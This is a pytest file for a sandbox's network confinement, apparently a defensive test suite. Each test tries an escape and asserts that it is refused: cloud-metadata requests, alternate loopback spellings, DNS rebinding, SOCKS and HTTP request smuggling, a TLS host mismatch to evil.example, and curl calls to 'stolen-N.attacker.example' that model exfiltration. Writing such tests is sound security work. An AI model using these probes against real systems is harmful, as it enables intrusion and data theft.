"""Attacks on the network's boundary: each line on network in the list of known holes, tried for real."""

import os
import socket
import threading

import pytest

from conftest import need
from fumehood import Policy, Sandbox
from fumehood.linux.confine import can_scope
from patience import eventually
from servers import Tcp, Web, echo, serving

pytestmark = pytest.mark.namespaces

PYTHON = "python3 - <<'E'\nimport os, socket, struct, sys\nproxy = ('127.0.0.1', 61080)\n{code}\nE\n"


@pytest.fixture
def box(home, project):
    with Sandbox(project, ask=lambda _question: True) as sandbox:
        yield sandbox


@pytest.fixture
def secret():
    """A service of this machine that nobody granted."""
    with serving(Web(b"secret\n")) as web:
        yield web


def run(box, code, network):
    return box.run(PYTHON.format(code=code), network=network)


def connects(place):
    """Code that tries a connection and says how it went."""
    return f"""
try:
    c = socket.create_connection({place!r}, 5); print("REACHED")
except OSError as error: print("refused", error.errno)
"""


@pytest.mark.parametrize("network", [False, ["example.org"]])
def test_no_address_of_the_host_is_reached_directly(box, secret, network):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        try:
            probe.connect(("198.51.100.1", 9))
            own = probe.getsockname()[0]
        except OSError:
            own = "127.0.0.1"
    code = "".join(connects((address, secret.port)) for address in ("127.0.0.1", own, "169.254.169.254", "8.8.8.8"))
    assert run(box, code, network).stdout.split().count("refused") == 4


@pytest.mark.parametrize("network", [False, ["example.org"]])
def test_names_are_not_resolved_inside_but_to_us(box, network):
    code = """
for name in ("example.org", "secret.attacker.example"):
    try: print(socket.getaddrinfo(name, 80, socket.AF_INET)[0][4][0][:7])
    except OSError: print('not')
"""
    assert run(box, code, network).stdout.split() == (["198.18."] * 2 if network else ["not"] * 2)


@pytest.mark.parametrize("network", [False, ["example.org"]])
def test_an_abstract_socket_of_the_host_is_not_reached(box, network):
    assert "REACHED" not in abstract(box, network)


def test_an_abstract_socket_is_out_of_reach_with_the_whole_network_too(box):
    need(can_scope(), "this kernel's Landlock has no scopes")
    said = abstract(box, network=True)
    assert "REACHED" not in said
    assert "own: fine" in said


def abstract(box, network):
    name = f"\0fumehood-test-{os.getpid()}-{os.urandom(4).hex()}"
    with socket.socket(socket.AF_UNIX) as stream, socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as datagram:
        stream.bind(name)
        stream.listen()
        datagram.bind(name + "d")
        code = f"""
s = socket.socket(socket.AF_UNIX)
try: s.connect({name!r}); print("REACHED")
except OSError as error: print(error.errno)
d = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
try: d.sendto(b"x", {name + "d"!r}); print("REACHED")
except OSError as error: print(error.errno)
a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
try: a.connect({name + "d"!r}); a.send(b"x"); print("REACHED by a socket pair")
except OSError as error: print(error.errno)
own = socket.socket(socket.AF_UNIX); own.bind("\\0own-of-the-command"); own.listen()
c = socket.socket(socket.AF_UNIX); c.connect("\\0own-of-the-command"); print("own: fine")
"""
        said = run(box, code, network).output
        datagram.setblocking(False)
        with pytest.raises(BlockingIOError):
            datagram.recv(9)
    return said


def test_cloud_metadata_is_refused_whatever_was_granted(box):
    answer = run(
        box,
        """
for target in ("169.254.169.254", "[::ffff:169.254.169.254]", "metadata.attacker.example"):
    c = socket.create_connection(proxy, 100)
    c.sendall(f"GET http://{target}/latest/meta-data/ HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n".encode())
    print(c.recv(12))
""",
        ["*"],
    )
    assert answer.stdout.count("HTTP/1.1 403") == 2
    assert not any(each.allowed for each in answer.connections if each.host == "169.254.169.254")


def test_a_name_that_resolves_to_loopback_is_refused(box, secret, monkeypatch):
    found = [(socket.AF_INET, socket.SOCK_STREAM, 6, "", ("127.0.0.1", 0))]
    monkeypatch.setattr(socket, "getaddrinfo", lambda *_given, **_more: found)
    for network in (["rebound.example"], ["*"], ["*.example"]):
        done = box.run(f"curl -sS -m 100 http://rebound.example:{secret.port}/", network=network)
        assert "secret" not in done.stdout
        (blocked,) = done.blocked
        assert "a loopback address, which was not named itself" in blocked.hint
        assert f"--allow-host 127.0.0.1:{secret.port}" in blocked.hint
    assert secret.asked == []


def test_a_nul_in_a_socks_host_name_is_refused(box, secret):
    code = f"""
host = b"127.0.0.1\\0.example.org"
c = socket.create_connection(proxy, 100)
c.sendall(b"\\x05\\x01\\x00\\x05\\x01\\x00\\x03" + bytes([len(host)]) + host + struct.pack(">H", {secret.port}))
print(c.recv(2, socket.MSG_WAITALL), c.recv(10, socket.MSG_WAITALL)[1])
"""
    done = run(box, code, ["*.example.org", "127.0.0.1:1"])
    assert done.stdout == "b'\\x05\\x00' 2\n"
    assert secret.asked == []
    assert not any(each.allowed for each in done.connections)


def test_tls_for_another_host_than_the_asked_one_is_refused(box):
    with serving(Tcp(echo)) as there:
        code = f"""
import ssl
c = socket.create_connection(proxy, 100)
c.sendall(b"CONNECT localhost:{there.port} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n"); print(c.recv(99)[:12])
context = ssl.create_default_context(); context.check_hostname = False; context.verify_mode = ssl.CERT_NONE
try: context.wrap_socket(c, server_hostname="evil.example")
except OSError as error: print("cut off", type(error).__name__)
"""
        done = run(box, code, [f"localhost:{there.port}"])
    assert "cut off" in done.stdout
    assert [each.reason for each in done.connections] == ["the TLS client asked for evil.example there"]


@pytest.mark.parametrize("spelling", ["127.1", "0x7f000001", "2130706433", "0177.0.0.1", "[::ffff:7f00:1]", "[::1]"])
def test_other_spellings_of_loopback_lead_nowhere(box, secret, spelling):
    done = box.run(f"curl -sS -m 100 --noproxy '' -g http://{spelling}:{secret.port}/", network=["*"])
    assert "secret" not in done.stdout
    assert secret.asked == []


def test_a_second_request_on_a_granted_connection_does_not_reach_another_host(box, secret):
    with serving(Web()) as web:
        code = f"""
c = socket.create_connection(proxy, 100)
for port in ({web.port}, {secret.port}):
    c.sendall(f"GET http://127.0.0.1:{{port}}/ HTTP/1.1\\r\\nHost: 127.0.0.1:{web.port}\\r\\n\\r\\n".encode())
    found = b""
    while not found.endswith((b"hello\\n", b"granted\\n")): found += c.recv(1000)
    print(found[:12])
"""
        done = run(box, code, [f"127.0.0.1:{web.port}"])
    assert done.stdout == "b'HTTP/1.1 200'\nb'HTTP/1.1 403'\n"
    assert secret.asked == []


def test_a_smuggled_request_reaches_nobody(box):
    with serving(Web()) as web:
        code = f"""
c = socket.create_connection(proxy, 100)
c.sendall(b"POST http://127.0.0.1:{web.port}/ HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: 4\\r\\n"
          b"Transfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /smuggled HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n")
print(c.recv(12))
"""
        assert run(box, code, [f"127.0.0.1:{web.port}"]).stdout == "b'HTTP/1.1 400'\n"
        assert web.asked == []


def test_the_command_can_not_have_the_listener_or_reach_another_runs_proxy(box, home, project, secret):
    """Each run's listener is in its own namespace: nothing of it is on the host, nor in another run."""
    code = """
print(sorted(os.listdir("/proc/self/fd")))
import glob
for process in glob.glob("/proc/[0-9]*"):
    for link in glob.glob(process + "/fd/*"):
        try: target = os.readlink(link)
        except OSError: continue
        if target.startswith("socket:"): print("SOCKET", process, link)
"""
    assert "SOCKET" not in run(box, code, ["example.org"]).stdout
    met = []

    def on_output(_stream, text):
        if "up" in text:
            with socket.socket() as client:
                met.append(client.connect_ex(("127.0.0.1", 61080)))
            other = box.run(PYTHON.format(code=connects(("127.0.0.1", 61080))))
            met.append(other.stdout)

    with Sandbox(project, Policy(hosts=("example.org",))) as watched:
        watched.run("echo up; sleep 0.1", on_output=on_output)
    assert met[0] != 0, "the proxy listens on the host"
    assert "REACHED" not in met[1]


def test_a_command_can_not_bring_up_another_way_out(box):
    code = """
import fcntl
for family, kind in ((socket.AF_PACKET, socket.SOCK_RAW), (socket.AF_INET, socket.SOCK_RAW)):
    try: socket.socket(family, kind, 6 if family == socket.AF_INET else 0); print("RAW")
    except OSError as error: print("no", error.errno)
s = socket.socket()
try: fcntl.ioctl(s, 0x8914, struct.pack("16sh22x", b"lo", 0)); print("CHANGED")
except OSError as error: print("no", error.errno)
print(os.listdir("/sys/class/net") if os.path.isdir("/sys/class/net") else [])
"""
    said = run(box, code, ["example.org"]).stdout
    assert "RAW" not in said
    assert "CHANGED" not in said


def test_very_many_connections_end_with_the_run(box):
    before = threading.active_count()
    code = """
kept = []
for n in range(600):
    try: c = socket.create_connection(proxy, 1); c.sendall(b"\\x05"); kept.append(c)
    except OSError: break
print("done")
"""
    assert "done" in run(box, code, ["example.org"]).stdout
    assert eventually(lambda: threading.active_count() <= before)


def test_names_that_would_carry_something_out_are_never_looked_up(box, monkeypatch):
    asked = []
    monkeypatch.setattr(socket, "getaddrinfo", lambda *given, **_more: asked.append(given) or [])
    box.run("for n in 1 2 3; do curl -s -m 100 http://stolen-$n.attacker.example/; done", network=["example.org"])
    assert asked == []


def test_what_the_record_shows_can_not_be_made_to_lie(box):
    code = """
host = b"a\\x1b[2Jb\\nallowed good.example"
c = socket.create_connection(proxy, 100)
c.sendall(b"\\x05\\x01\\x00\\x05\\x01\\x00\\x03" + bytes([len(host)]) + host + struct.pack(">H", 80)); c.recv(99)
"""
    done = run(box, code, ["example.org"])
    (seen,) = done.connections
    assert "\x1b" not in seen.host
    assert "\n" not in seen.host

